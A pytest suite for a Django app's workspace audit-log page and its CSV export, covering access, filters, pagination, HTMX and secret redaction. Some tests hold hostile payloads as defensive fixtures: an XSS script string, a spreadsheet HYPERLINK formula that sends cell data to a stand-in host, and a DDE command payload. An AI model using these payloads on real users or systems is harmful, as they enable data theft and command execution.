"""Settings → Audit log: who may see it, the filters, pagination, HTMX, and the CSV export."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import parse_qs

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.audit import audit_record
from accounts.models import AuditEvent, Membership, User, Workspace
from accounts.roles import Role
from tests.conftest import make_member
from tests.factories import HTMX
from tokens import services
from tokens.actors import Actor
from tokens.models import Token

pytestmark = pytest.mark.django_db

# Written out rather than imported: the header is the export's published format.
HEADER = "time,action,actor,actor_token_id,target_type,target_id,target,ip,user_agent,details"
CSV_HEADER = HEADER.split(",")
# Cells a spreadsheet would read as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# Helpers -------------------------------------------------------------------------


def audit_url(workspace: Workspace) -> str:
    return reverse("accounts:audit", args=[workspace.slug])


def export_url(workspace: Workspace) -> str:
    return reverse("accounts:audit_export", args=[workspace.slug])


def at(text: str) -> datetime:
    """Return the UTC moment written as 'YYYY-MM-DD HH:MM[:SS]'."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def add_event(workspace: Workspace | None, label: str, **fields) -> AuditEvent:
    """Store one event whose target label is `label`, so tests can find its row."""
    fields.setdefault("action", "probe.done")
    fields.setdefault("actor_label", "someone@example.com")
    return AuditEvent.objects.create(workspace=workspace, target_label=label, **fields)


def add_events(workspace: Workspace, count: int, *, start: datetime | None = None, **fields):
    """Store `count` events one minute apart, labelled evt-000, evt-001, … (oldest first)."""
    start = start or timezone.now() - timedelta(days=1)
    AuditEvent.objects.bulk_create(
        AuditEvent(
            workspace=workspace,
            action=fields.get("action", "probe.done"),
            actor_label=fields.get("actor_label", "someone@example.com"),
            target_label=f"evt-{n:03d}",
            created_at=start + timedelta(minutes=n),
        )
        for n in range(count)
    )


class _Table(HTMLParser):
    """Collect the target labels (first text of the fourth cell) of the audit table's rows."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._in_body = False
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "tbody":
            self._in_body = True
        elif self._in_body and tag == "tr":
            self.rows.append([])
        elif self._in_body and tag == "td":
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "tbody":
            self._in_body = False
        elif tag == "td" and self._cell is not None:
            self.rows[-1].append(" ".join(" ".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def table_rows(response) -> list[list[str]]:
    """Return the cells' text of every row of the audit table in `response`."""
    parser = _Table()
    parser.feed(response.content.decode())
    return parser.rows


def labels(response) -> list[str]:
    """Return the target labels of the table's rows, top to bottom."""
    return [row[3].split(" ")[0] for row in table_rows(response)]


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_records(response) -> list[dict[str, str]]:
    rows = read_csv(response)
    assert rows[0] == CSV_HEADER
    return [dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]]


def member_actor(user: User, workspace: Workspace) -> Actor:
    return Actor.member(
        Membership.objects.select_related("user").get(user=user, workspace=workspace)
    )


@pytest.fixture
def acme_admin(client, admin_user):
    """Return the test client signed in as acme's Admin."""
    client.force_login(admin_user)
    return client


@pytest.fixture
def foreign_events(other_workspace, outsider):
    """Events in another workspace, some of which match every filter the tests use."""
    add_event(other_workspace, "foreign-1", action="probe.done", actor_label="admin@example.com")
    add_event(other_workspace, "foreign-2", action="secret.globex_only", actor_token_id="tok_x")
    add_event(None, "foreign-3", action="probe.done")  # an event of no workspace


# Access ---------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["admin_user", "manager_user"])
@pytest.mark.parametrize("url", [audit_url, export_url], ids=["page", "export"])
def test_admins_and_managers_may_open_the_audit_log(request, client, workspace, who, url):
    client.force_login(request.getfixturevalue(who))
    response = client.get(url(workspace))
    assert response.status_code == 200


@pytest.mark.parametrize("url", [audit_url, export_url], ids=["page", "export"])
@pytest.mark.parametrize("headers", [{}, HTMX], ids=["plain", "htmx"])
def test_members_are_refused(client, workspace, member_user, url, headers):
    add_event(workspace, "hidden-from-members")
    client.force_login(member_user)
    response = client.get(url(workspace), **headers)
    assert response.status_code == 403
    assert b"hidden-from-members" not in response.content


@pytest.mark.parametrize("url", [audit_url, export_url], ids=["page", "export"])
def test_outsiders_get_not_found(client, workspace, outsider, url):
    add_event(workspace, "hidden-from-outsiders")
    client.force_login(outsider)
    response = client.get(url(workspace))
    assert response.status_code == 404
    assert b"hidden-from-outsiders" not in response.content


@pytest.mark.parametrize("url", [audit_url, export_url], ids=["page", "export"])
def test_anonymous_visitors_are_sent_to_sign_in(client, workspace, url):
    response = client.get(url(workspace))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))
    assert "next=" in response["Location"]


def test_only_admins_and_managers_see_the_tab_in_the_settings_nav(client, workspace, member_user):
    manager = make_member(workspace, "boss@example.com", Role.MANAGER)
    members_page = reverse("accounts:members", args=[workspace.slug])
    client.force_login(member_user)
    assert audit_url(workspace) not in client.get(members_page).content.decode()
    client.force_login(manager)
    assert audit_url(workspace) in client.get(members_page).content.decode()


# Scope: this workspace only -----------------------------------------------------------


def test_page_and_export_hold_only_this_workspaces_events(acme_admin, workspace, foreign_events):
    add_event(workspace, "ours-1")
    add_event(workspace, "ours-2", action="token.created")

    page = acme_admin.get(audit_url(workspace))
    assert sorted(labels(page)) == ["ours-1", "ours-2"]
    assert "foreign" not in page.content.decode()
    # The action select offers this workspace's actions only.
    assert "secret.globex_only" not in page.content.decode()
    assert '<option value="token.created"' in page.content.decode()

    exported = csv_records(acme_admin.get(export_url(workspace)))
    assert sorted(r["target"] for r in exported) == ["ours-1", "ours-2"]


def test_events_are_listed_newest_first_with_their_fields(acme_admin, workspace):
    add_event(workspace, "older", created_at=timezone.now() - timedelta(hours=2))
    add_event(
        workspace,
        "newer",
        action="token.renamed",
        actor_label="token deploy-bot",
        actor_token_id="tok_actor123",
        target_type="token",
        target_id="tok_target456",
        ip="203.0.113.9",
        user_agent="curl/8.5",
        details={"old_name": "a", "name": "b"},
        created_at=timezone.now() - timedelta(hours=1),
    )
    response = acme_admin.get(audit_url(workspace))
    assert labels(response) == ["newer", "older"]
    when, action, actor, target, client_cell, details = table_rows(response)[0]
    assert when == "1 hour ago"
    assert action == "token.renamed"
    assert actor == "token deploy-bot tok_actor123"
    assert target == "newer token tok_target456"
    assert client_cell == "203.0.113.9 curl/8.5"
    assert "old name: a" in details and "name: b" in details


def test_an_empty_log_says_so(acme_admin, workspace):
    response = acme_admin.get(audit_url(workspace))
    assert "No events match" in response.content.decode()
    assert table_rows(response) == []


# Filters ------------------------------------------------------------------------------


@pytest.fixture
def mixed_events(workspace):
    """Events by two people and a token, on two tokens, over three days."""
    add_event(
        workspace,
        "alice-created-t1",
        action="token.created",
        actor_label="alice@example.com",
        target_type="token",
        target_id="tok_one",
        created_at=at("2025-03-09 23:59:59"),
    )
    add_event(
        workspace,
        "bob-renamed-t1",
        action="token.renamed",
        actor_label="bob@corp.example",
        target_type="token",
        target_id="tok_one",
        created_at=at("2025-03-10 00:00:00"),
    )
    add_event(
        workspace,
        "t1-renamed-t2",
        action="token.renamed",
        actor_label="token deploy-bot",
        actor_token_id="tok_one",
        target_type="token",
        target_id="tok_two",
        created_at=at("2025-03-11 12:00:00"),
    )
    add_event(
        workspace,
        "alice-revoked-t2",
        action="token.revoked",
        actor_label="alice@example.com",
        target_type="token",
        target_id="tok_two",
        created_at=at("2025-03-12 23:59:59.999999"),
    )
    add_event(
        workspace,
        "bob-invited",
        action="member.invited",
        actor_label="bob@corp.example",
        target_type="invitation",
        target_id="tok_one",  # an id that only looks like a token's: not a token event
        created_at=at("2025-03-13 00:00:00"),
    )


FILTER_CASES = {
    "actor email substring, any case": (
        {"actor": "ALICE@"},
        ["alice-revoked-t2", "alice-created-t1"],
    ),
    "actor domain": ({"actor": "corp.example"}, ["bob-invited", "bob-renamed-t1"]),
    "actor token id": ({"actor": "tok_one"}, ["t1-renamed-t2"]),
    "actor with spaces around": ({"actor": "  bob@  "}, ["bob-invited", "bob-renamed-t1"]),
    "action": ({"action": "token.renamed"}, ["t1-renamed-t2", "bob-renamed-t1"]),
    "action is exact": ({"action": "token"}, []),
    "token as target or actor": (
        {"token": "tok_one"},
        ["t1-renamed-t2", "bob-renamed-t1", "alice-created-t1"],
    ),
    "token as target only": ({"token": "tok_two"}, ["alice-revoked-t2", "t1-renamed-t2"]),
    "since is inclusive": (
        {"since": "2025-03-12"},
        ["bob-invited", "alice-revoked-t2"],
    ),
    "until is inclusive of the whole day": (
        {"until": "2025-03-10"},
        ["bob-renamed-t1", "alice-created-t1"],
    ),
    "since and until": (
        {"since": "2025-03-10", "until": "2025-03-12"},
        ["alice-revoked-t2", "t1-renamed-t2", "bob-renamed-t1"],
    ),
    "one day": ({"since": "2025-03-11", "until": "2025-03-11"}, ["t1-renamed-t2"]),
    "since after until": ({"since": "2025-03-12", "until": "2025-03-10"}, []),
    "unreadable dates are ignored": (
        {"since": "yesterday", "until": "2025-02-30"},
        ["bob-invited", "alice-revoked-t2", "t1-renamed-t2", "bob-renamed-t1", "alice-created-t1"],
    ),
    "one unreadable date, one good": (
        {"since": "10/03/2025", "until": "2025-03-10"},
        ["bob-renamed-t1", "alice-created-t1"],
    ),
    "combined: actor, action and dates": (
        {"actor": "alice", "action": "token.revoked", "since": "2025-03-12"},
        ["alice-revoked-t2"],
    ),
    "combined: token and action": (
        {"token": "tok_one", "action": "token.renamed"},
        ["t1-renamed-t2", "bob-renamed-t1"],
    ),
    "combined: token and actor": ({"token": "tok_two", "actor": "deploy-bot"}, ["t1-renamed-t2"]),
    "combined with no match": ({"actor": "alice", "action": "member.invited"}, []),
}


@pytest.mark.parametrize(("query", "expected"), FILTER_CASES.values(), ids=FILTER_CASES.keys())
def test_filters_on_the_page(acme_admin, workspace, mixed_events, foreign_events, query, expected):
    response = acme_admin.get(audit_url(workspace), query)
    assert response.status_code == 200
    assert labels(response) == expected
    if not expected:
        assert "No events match" in response.content.decode()


@pytest.mark.parametrize(("query", "expected"), FILTER_CASES.values(), ids=FILTER_CASES.keys())
def test_filters_on_the_export(
    acme_admin, workspace, mixed_events, foreign_events, query, expected
):
    records = csv_records(acme_admin.get(export_url(workspace), query))
    assert [r["target"] for r in records] == expected


def test_the_form_shows_the_filters_in_use(acme_admin, workspace, mixed_events):
    response = acme_admin.get(
        audit_url(workspace),
        {"actor": "alice", "action": "token.revoked", "token": "tok_two", "since": "2025-03-12"},
    )
    page = response.content.decode()
    assert 'name="actor" value="alice"' in page
    assert '<option value="token.revoked" selected>' in page
    assert 'name="token" value="tok_two"' in page
    assert 'name="since" value="2025-03-12"' in page
    assert 'name="until" value=""' in page
    # The export link carries the same filters.
    export = re.search(r'href="([^"]*export\.csv[^"]*)"', page).group(1)
    assert export == (
        f"{export_url(workspace)}?actor=alice&amp;action=token.revoked&amp;token=tok_two"
        "&amp;since=2025-03-12"
    )


def test_unreadable_dates_are_not_echoed_back(acme_admin, workspace):
    page = acme_admin.get(audit_url(workspace), {"since": "soon", "until": "2025-13-01"})
    text = page.content.decode()
    assert 'name="since" value=""' in text
    assert 'name="until" value=""' in text


def test_filter_values_are_escaped(acme_admin, workspace):
    hostile = '"><script>alert(1)</script>'
    page = acme_admin.get(audit_url(workspace), {"actor": hostile}).content.decode()
    assert "<script>alert(1)" not in page
    assert "&quot;&gt;&lt;script&gt;" in page


@pytest.mark.parametrize("url", [audit_url, export_url], ids=["page", "export"])
def test_the_last_possible_until_date_is_accepted(acme_admin, workspace, url):
    add_event(workspace, "any")
    response = acme_admin.get(url(workspace), {"until": "9999-12-31"})
    assert response.status_code == 200


def test_actor_filter_finds_events_made_through_the_api(client, acme_admin, workspace, admin_user):
    """A token acting through the API is found by its id, as actor and as token."""
    actor = member_actor(admin_user, workspace)
    bot, bot_secret = services.token_create(
        actor=actor, workspace=workspace, name="deploy-bot", scopes=["tokens:read", "tokens:write"]
    )
    victim, _ = services.token_create(
        actor=actor, workspace=workspace, name="grafana", scopes=["tokens:read"]
    )
    api = Client()
    response = api.patch(
        f"/api/v1/tokens/{victim.public_id}",
        data=json.dumps({"name": "grafana-reader"}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {bot_secret}",
    )
    assert response.status_code == 200

    by_actor = acme_admin.get(audit_url(workspace), {"actor": bot.public_id})
    assert [row[1] for row in table_rows(by_actor)] == ["token.renamed"]
    assert table_rows(by_actor)[0][2] == f"token deploy-bot {bot.public_id}"

    # As a token filter, the bot matches both its own creation and what it did.
    by_token = csv_records(acme_admin.get(export_url(workspace), {"token": bot.public_id}))
    assert [(r["action"], r["actor_token_id"], r["target_id"]) for r in by_token] == [
        ("token.renamed", bot.public_id, victim.public_id),
        ("token.created", "", bot.public_id),
    ]


# Pagination ---------------------------------------------------------------------------


@pytest.fixture
def many_events(workspace):
    """120 'probe.done' events (evt-000 oldest … evt-119 newest) and 5 others in between."""
    start = timezone.now() - timedelta(days=1)
    add_events(workspace, 120, start=start)
    AuditEvent.objects.bulk_create(
        AuditEvent(
            workspace=workspace,
            action="other.thing",
            target_label=f"other-{n}",
            created_at=start + timedelta(minutes=n * 20, seconds=30),
        )
        for n in range(5)
    )


def _pagination_links(response) -> dict[str, str]:
    """Return the Previous/Next links' href (checking hx-get says the same)."""
    links = {}
    for href, hx_get, name in re.findall(
        r'<a class="button small" href="([^"]*)" hx-get="([^"]*)"[^>]*>(Previous|Next)</a>',
        response.content.decode(),
    ):
        assert href == hx_get
        links[name] = href.replace("&amp;", "&")
    return links


def test_pages_hold_fifty_events_each_and_links_keep_the_filters(
    acme_admin, workspace, many_events
):
    url = audit_url(workspace)
    query = {"action": "probe.done", "actor": "someone"}

    first = acme_admin.get(url, query)
    assert labels(first) == [f"evt-{n:03d}" for n in range(119, 69, -1)]
    assert "Page 1 of 3 · 120 events" in first.content.decode()
    links = _pagination_links(first)
    assert links == {"Next": "?actor=someone&action=probe.done&page=2"}

    second = acme_admin.get(url + links["Next"])
    assert labels(second) == [f"evt-{n:03d}" for n in range(69, 19, -1)]
    assert "Page 2 of 3 · 120 events" in second.content.decode()
    links = _pagination_links(second)
    assert links == {
        "Previous": "?actor=someone&action=probe.done&page=1",
        "Next": "?actor=someone&action=probe.done&page=3",
    }

    third = acme_admin.get(url + links["Next"])
    assert labels(third) == [f"evt-{n:03d}" for n in range(19, -1, -1)]
    assert "Page 3 of 3 · 120 events" in third.content.decode()
    assert _pagination_links(third) == {"Previous": "?actor=someone&action=probe.done&page=2"}


def test_unfiltered_pages_count_every_event(acme_admin, workspace, many_events):
    response = acme_admin.get(audit_url(workspace), {"page": "3"})
    assert "Page 3 of 3 · 125 events" in response.content.decode()
    assert len(labels(response)) == 25
    links = _pagination_links(response)
    assert list(links) == ["Previous"]
    assert parse_qs(links["Previous"].removeprefix("?")) == {"page": ["2"]}


def test_date_filters_survive_paging(acme_admin, workspace):
    add_events(workspace, 60, start=at("2025-03-10 08:00"))
    add_events(workspace, 60, start=at("2025-04-01 08:00"))
    response = acme_admin.get(audit_url(workspace), {"since": "2025-03-10", "until": "2025-03-10"})
    assert "Page 1 of 2 · 60 events" in response.content.decode()
    assert _pagination_links(response) == {"Next": "?since=2025-03-10&until=2025-03-10&page=2"}


@pytest.mark.parametrize(
    ("page", "expected_page"), [("99", 3), ("abc", 1), ("0", 3), ("-1", 3), ("", 1)]
)
def test_out_of_range_and_unreadable_pages_fall_back(
    acme_admin, workspace, many_events, page, expected_page
):
    response = acme_admin.get(audit_url(workspace), {"page": page, "action": "probe.done"})
    assert response.status_code == 200
    assert f"Page {expected_page} of 3" in response.content.decode()


def test_one_page_shows_no_pagination(acme_admin, workspace):
    add_events(workspace, 50)
    response = acme_admin.get(audit_url(workspace))
    assert len(labels(response)) == 50
    assert 'class="pagination"' not in response.content.decode()


# HTMX -----------------------------------------------------------------------------------


def test_htmx_requests_get_only_the_table(acme_admin, workspace, many_events):
    response = acme_admin.get(audit_url(workspace), {"action": "probe.done", "page": "2"}, **HTMX)
    html = response.content.decode()
    assert response.status_code == 200
    assert '<div id="audit-table">' in html
    assert "<html" not in html and "<body" not in html
    assert 'id="audit-filters"' not in html
    assert 'aria-label="Settings"' not in html
    # Only the out-of-band export link comes along, so that it exports these filters.
    assert html.lstrip().startswith('<a id="audit-export"')
    assert 'hx-swap-oob="true"' in html
    assert "action=probe.done" in html.split('<div id="audit-table">')[0]
    assert labels(response) == [f"evt-{n:03d}" for n in range(69, 19, -1)]
    assert "Page 2 of 3 · 120 events" in html


def test_htmx_with_no_match_gets_the_empty_table(acme_admin, workspace, many_events):
    response = acme_admin.get(audit_url(workspace), {"actor": "nobody"}, **HTMX)
    html = response.content.decode()
    assert '<div id="audit-table">' in html
    assert "No events match" in html


def test_the_full_page_holds_the_table_the_form_targets(acme_admin, workspace):
    html = acme_admin.get(audit_url(workspace)).content.decode()
    assert 'hx-target="#audit-table"' in html
    assert html.count('id="audit-table"') == 1
    assert 'hx-push-url="true"' in html


# Query count ---------------------------------------------------------------------------


def _varied_events(workspace: Workspace, count: int) -> None:
    """Store events by people, tokens and the system, on varied targets."""
    users = [make_member(workspace, f"user{n}-{count}@example.com", Role.MEMBER) for n in range(3)]
    for n in range(count):
        kind = n % 3
        audit_record(
            action=["token.created", "token.renamed", "member.invited"][kind],
            actor=users[n % 3] if kind != 2 else None,
            workspace=workspace,
            target=users[(n + 1) % 3],
            details={"n": n, "scopes": ["tokens:read"]},
        )


def _queries(client, url: str, **headers) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, **headers)
        if isinstance(response, StreamingHttpResponse):
            b"".join(response.streaming_content)
        else:
            assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("headers", [{}, HTMX], ids=["page", "htmx"])
def test_the_page_makes_as_many_queries_for_200_events_as_for_10(
    acme_admin, workspace, other_workspace, headers
):
    _varied_events(workspace, 10)
    few = _queries(acme_admin, audit_url(workspace), **headers)
    _varied_events(workspace, 190)
    many = _queries(acme_admin, audit_url(workspace), **headers)
    assert AuditEvent.objects.filter(workspace=workspace).count() == 200
    assert many == few
    assert few <= 10


def test_the_export_makes_as_many_queries_for_200_events_as_for_10(acme_admin, workspace):
    _varied_events(workspace, 10)
    few = _queries(acme_admin, export_url(workspace))
    _varied_events(workspace, 190)
    many = _queries(acme_admin, export_url(workspace))
    assert many == few


# CSV export -----------------------------------------------------------------------------


def test_export_is_a_streamed_csv_attachment(acme_admin, workspace):
    add_event(workspace, "one")
    response = acme_admin.get(export_url(workspace))
    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="keyward-audit-acme-\d{8}-\d{4}\.csv"',
        response["Content-Disposition"],
    )
    rows = read_csv(response)
    assert rows[0] == CSV_HEADER
    assert len(rows) == 2


def test_export_of_an_empty_log_is_the_header_only(acme_admin, workspace):
    assert read_csv(acme_admin.get(export_url(workspace))) == [CSV_HEADER]


def test_export_has_one_row_per_event_newest_first_with_every_field(acme_admin, workspace):
    add_events(workspace, 3, start=at("2025-03-10 08:00"))
    add_event(
        workspace,
        "deploy-bot",
        action="token.renamed",
        actor_label="token ci",
        actor_token_id="tok_actor123",
        target_type="token",
        target_id="tok_target456",
        ip="2001:db8::1",
        user_agent="python-httpx/0.28",
        details={"old_name": "ci", "name": "deploy-bot", "expires_at": at("2026-01-01 00:00")},
        created_at=at("2025-03-11 09:30:15"),
    )
    records = csv_records(acme_admin.get(export_url(workspace)))
    assert [r["target"] for r in records] == ["deploy-bot", "evt-002", "evt-001", "evt-000"]
    assert records[0] == {
        "time": "2025-03-11T09:30:15+00:00",
        "action": "token.renamed",
        "actor": "token ci",
        "actor_token_id": "tok_actor123",
        "target_type": "token",
        "target_id": "tok_target456",
        "target": "deploy-bot",
        "ip": "2001:db8::1",
        "user_agent": "python-httpx/0.28",
        "details": '{"expires_at": "2026-01-01T00:00:00Z", "name": "deploy-bot", "old_name": "ci"}',
    }
    assert records[1]["ip"] == ""
    assert records[1]["details"] == "{}"


def test_export_ignores_pagination(acme_admin, workspace, many_events):
    records = csv_records(acme_admin.get(export_url(workspace), {"page": "2"}))
    assert len(records) == 125


def test_fields_with_commas_quotes_and_newlines_round_trip(acme_admin, workspace):
    awkward = 'Deploy "prod", east\nsecond line\r\nthird, "quoted"'
    add_event(
        workspace,
        awkward,
        actor_label='o\'brien, "ops"@example.com',
        user_agent='Agent, "v2"',
        details={"note": 'a, "b"\nc'},
    )
    record = csv_records(acme_admin.get(export_url(workspace)))[0]
    assert record["target"] == awkward
    assert record["actor"] == 'o\'brien, "ops"@example.com'
    assert record["user_agent"] == 'Agent, "v2"'
    assert json.loads(record["details"]) == {"note": 'a, "b"\nc'}


def test_non_ascii_text_is_exported_as_utf8(acme_admin, workspace):
    add_event(workspace, "Schlüssel für Zoë 🔑", actor_label="zoë@example.com")
    record = csv_records(acme_admin.get(export_url(workspace)))[0]
    assert record["target"] == "Schlüssel für Zoë 🔑"
    assert record["actor"] == "zoë@example.com"


def test_export_defuses_spreadsheet_formulas(client, acme_admin, workspace, admin_user):
    """A token name and an API client's User-Agent that a spreadsheet would run."""
    actor = member_actor(admin_user, workspace)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    token, secret = services.token_create(
        actor=actor, workspace=workspace, name=formula, scopes=["tokens:read", "tokens:write"]
    )
    response = Client().patch(
        f"/api/v1/tokens/{token.public_id}",
        data=json.dumps({"description": "touched"}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
        HTTP_USER_AGENT="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    assert response.status_code == 200
    add_event(workspace, "+1+1", actor_label="-2+3@example.com")

    records = csv_records(acme_admin.get(export_url(workspace)))
    cells = [value for record in records for value in record.values()]
    assert any(formula in cell for cell in cells)  # the text is kept…
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert dangerous == []  # …but no cell starts like a formula


# Secrets ----------------------------------------------------------------------------------


def test_no_token_secret_appears_in_the_page_or_the_export(
    client, acme_admin, workspace, admin_user
):
    actor = member_actor(admin_user, workspace)
    request = RequestFactory().post("/", REMOTE_ADDR="198.51.100.7", HTTP_USER_AGENT="console")
    token, first_secret = services.token_create(
        actor=actor,
        workspace=workspace,
        name="ci-deploy",
        scopes=["tokens:read", "tokens:write"],
        request=request,
    )
    services.token_rename(actor=actor, token=token, name="ci-deploy-prod", request=request)
    new_token, rotated_secret = services.token_rotate(actor=actor, token=token, grace="1h")
    # The rotated token is used through the API, then revoked.
    assert (
        Client().get("/api/v1/whoami", HTTP_AUTHORIZATION=f"Bearer {rotated_secret}").status_code
        == 200
    )
    services.token_revoke(actor=actor, token=new_token, request=request)
    # A failed use of a known token is audited too.
    Client().get("/api/v1/whoami", HTTP_AUTHORIZATION=f"Bearer {rotated_secret}")
    other, other_secret = services.token_create(
        actor=actor, workspace=workspace, name="grafana", scopes=["tokens:read"]
    )
    services.token_revoke(actor=actor, token=other)

    actions = set(AuditEvent.objects.filter(workspace=workspace).values_list("action", flat=True))
    assert {"token.created", "token.renamed", "token.revoked"} <= actions

    page = acme_admin.get(audit_url(workspace), {"actor": ""}).content.decode()
    export = b"".join(acme_admin.get(export_url(workspace)).streaming_content).decode()
    assert "ci-deploy-prod" in page and "ci-deploy-prod" in export
    for secret in (first_secret, rotated_secret, other_secret):
        body = secret.split("_", 2)[-1]  # the random part, whatever the prefix
        for text in (page, export):
            assert secret not in text
            assert body not in text
    for stored in Token.objects.filter(workspace=workspace):
        for text in (page, export):
            assert stored.digest not in text


def test_the_page_and_its_fragment_vary_on_the_htmx_header(acme_admin, workspace):
    # Without it the Back button can show a cached fragment as the whole page.
    response = acme_admin.get(audit_url(workspace))

    assert "HX-Request" in response["Vary"]


def test_boolean_details_read_as_words(acme_admin, workspace, admin_user):
    audit_record(
        action="token.renamed",
        actor=admin_user,
        workspace=workspace,
        details={"description_changed": False},
    )

    html = acme_admin.get(audit_url(workspace)).content.decode()

    assert "description changed:</span> no" in html


@pytest.mark.parametrize("value", ["²", "①", "¹", "٢٠٢٥-01-01", "9" * 5000, "2025-13-01"], ids=repr)
@pytest.mark.parametrize("parameter", ["since", "until", "page"])
def test_a_bad_query_value_shows_the_log_unfiltered(acme_admin, workspace, parameter, value):
    add_event(workspace, "token.created")
    response = acme_admin.get(audit_url(workspace), {parameter: value})
    assert response.status_code == 200
    text = response.content.decode()
    assert "token.created" in text
    if parameter != "page":
        assert f"The {parameter} filter was ignored: it takes a date, YYYY-MM-DD." in text
